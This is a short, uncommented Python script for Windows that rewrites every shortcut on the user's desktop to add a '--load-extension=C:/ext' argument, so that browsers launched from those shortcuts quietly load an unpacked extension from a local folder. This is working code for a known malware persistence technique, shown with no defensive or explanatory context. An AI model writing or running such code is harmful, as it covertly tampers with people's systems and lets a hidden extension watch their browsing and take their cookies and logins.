import glob
import os
from win32com.client import Dispatch

shell = Dispatch("WScript.Shell")
for path in glob.glob(os.path.expanduser("~/Desktop/*.lnk")):
    link = shell.CreateShortcut(path)
    link.Arguments = "--load-extension=C:/ext"
    link.Save()
